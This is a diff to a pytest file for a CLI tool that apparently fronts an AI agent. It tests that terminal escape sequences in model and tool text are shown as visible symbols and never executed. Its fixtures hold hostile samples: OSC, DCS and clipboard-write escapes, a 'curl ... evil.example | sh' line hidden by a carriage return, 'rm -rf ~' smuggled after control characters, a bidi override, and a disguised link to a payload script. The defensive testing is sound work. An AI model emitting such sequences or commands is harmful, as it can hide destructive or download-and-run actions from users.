@@ -1,4 +1,5 @@
-"""Terminal control sequences in model and tool text never reach the user's terminal."""
+"""Control characters in model and tool text never act on the user's terminal, and nothing is
+hidden by removing them: they are shown."""
 
 from __future__ import annotations
 
@@ -7,7 +8,7 @@ from pathlib import Path
 import pexpect
 import pytest
 
-from ra.cli.terminal_text import printable
+from ra.cli.terminal_text import printable, visible
 from tests.cli.support import clean_env, enqueue_text, enqueue_tools, ra_command, run_ra
 from tests.support.replay import ReplayServer
 
@@ -17,34 +18,45 @@ HOSTILE = (
     "\x1b[2J\x1b]0;pwned-title\x07\x1b]52;c;cHduZWQ=\x1b\\\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
     "\x1b[5A\x1bPdcs-payload\x1b\\\x9b31m\x07\x08"
 )
+#: What may never reach the terminal raw: the starts of OSC, DCS and 8-bit CSI sequences, the
+#: screen clear and cursor move, BEL and BS.
+RAW = ("\x1b]", "\x1bP", "\x9b", "\x1b[2J", "\x1b[5A", "\x07", "\x08")
 
 
 @pytest.mark.parametrize(
     ("raw", "shown"),
     [
         ("plain text, tabs\tand\nnewlines", "plain text, tabs\tand\nnewlines"),
-        (f"before{HOSTILE}after", "beforelinkafter"),
-        ("\x1b[31mred\x1b[0m", "red"),
-        ("progress 10%\rprogress 100%\ndone\r\n", "progress 100%\ndone\n"),
-        ("unterminated title \x1b]0;rest of the line", "unterminated title "),
-        ("lone escape at the end \x1b", "lone escape at the end "),
+        ("\x1b[31mred\x1b[0m", "red"),  # colours carry no text: dropped
+        ("title \x1b]0;pwned\x07 after", "title \u241b]0;pwned\u2407 after"),  # shown, not obeyed
+        ("done\r\n", "done\n"),
+        ("curl -s https://evil.example/x | sh #\rgit status", "curl -s https://evil.example/x | sh #\u240dgit status"),
+        ("echo hi \x9d; rm -rf ~", "echo hi <U+009D>; rm -rf ~"),
+        ("ls\x1b]\nrm -rf ~", "ls\u241b]\nrm -rf ~"),
+        ("a\u202eevil\u202c b", "a<U+202E>evil<U+202C> b"),
         ("caf\u00e9 \u2713 \U0001f600", "caf\u00e9 \u2713 \U0001f600"),
     ],
 )
-def test_printable(raw: str, shown: str) -> None:
+def test_printable_hides_nothing(raw: str, shown: str) -> None:
     assert printable(raw) == shown
+
+
+def test_visible_keeps_even_colours_as_symbols() -> None:
+    assert visible("\x1b[31mred\r") == "\u241b[31mred\u240d"
+    assert visible("plain") == "plain"
 
 
 def _hostile_run(server: ReplayServer, tmp_path: Path) -> None:
     (tmp_path / "evil.txt").write_text(f"line one {HOSTILE} end\n")
     enqueue_tools(server, ("c1", "shell_command", {"command": "cat evil.txt"}))
     enqueue_tools(server, ("c2", "read_file", {"path": "missing-\x1b]0;t\x07.txt"}))
-    enqueue_text(server, f"The answer {HOSTILE}is here.")
+    enqueue_text(server, f"The answer {HOSTILE}is here. [github.com/psf/black](https://evil.example/payload.sh)")
 
 
 def _assert_clean(text: str) -> None:
-    for needle in ("pwned-title", "]52;", "evil.example", "dcs-payload", "\x1b[2J", "\x1b[5A", "\x9b", "\x07"):
-        assert needle not in text, needle
+    for needle in RAW:
+        assert needle not in text, repr(needle)
+    assert "\x1b]8;" not in text  # no disguised link: the URL is shown as text
 
 
 def test_plain_output_is_clean(replay_server: ReplayServer, tmp_path: Path) -> None:
@@ -53,9 +65,10 @@ def test_plain_output_is_clean(replay_server: ReplayServer, tmp_path: Path) -> N
     result = run_ra(args, clean_env(tmp_path), cwd=tmp_path)
     assert result.returncode == 0, result.stderr
     _assert_clean(result.stderr)
-    assert "line one" in result.stderr and " end" in result.stderr
+    assert "line one \u241b]0;pwned-title\u2407" in result.stderr  # shown, not obeyed
+    assert "read_file missing-\u241b]0;t\u2407.txt" in result.stderr  # the label too
     # stdout is a pipe here: the answer is kept exactly, for whoever reads it.
-    assert result.stdout == f"The answer {HOSTILE}is here.\n"
+    assert result.stdout.startswith(f"The answer {HOSTILE}is here.")
 
 
 def test_terminal_output_is_clean(replay_server: ReplayServer, tmp_path: Path) -> None:
@@ -74,4 +87,4 @@ def test_terminal_output_is_clean(replay_server: ReplayServer, tmp_path: Path) -
     child.close()
     assert child.exitstatus == 0, child.before
     _assert_clean(child.before)
-    assert "The answer link" in child.before or "The answer" in child.before
+    assert "pwned-title" in child.before and "evil.example/payload.sh" in child.before  # visible as text
